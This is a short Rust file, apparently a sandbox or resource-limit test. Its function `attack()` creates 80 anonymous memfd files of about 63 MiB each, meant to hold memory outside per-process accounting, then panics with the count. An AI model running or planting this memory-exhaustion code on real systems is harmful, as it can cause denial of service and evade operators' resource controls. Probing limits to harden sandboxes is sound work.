//! Holds memory that counts for no process: files in memory, each as large as a file may be.

use std::ffi::c_char;
use std::fs::File;
use std::io::Write;
use std::os::fd::FromRawFd;

#[allow(unsafe_code)]
unsafe extern "C" {
    fn memfd_create(name: *const c_char, flags: u32) -> i32;
}

#[allow(unsafe_code)]
fn attack() {
    let mut held = Vec::new();
    for _ in 0..80 {
        let number = unsafe { memfd_create(c"held".as_ptr(), 0) };
        assert!(number >= 0, "refused");
        let mut file = unsafe { File::from_raw_fd(number) };
        (0..63).for_each(|_| file.write_all(&vec![1; 1 << 20]).unwrap());
        held.push(file);
    }
    std::thread::sleep(std::time::Duration::from_secs(4));
    panic!("{} are held", held.len());
}
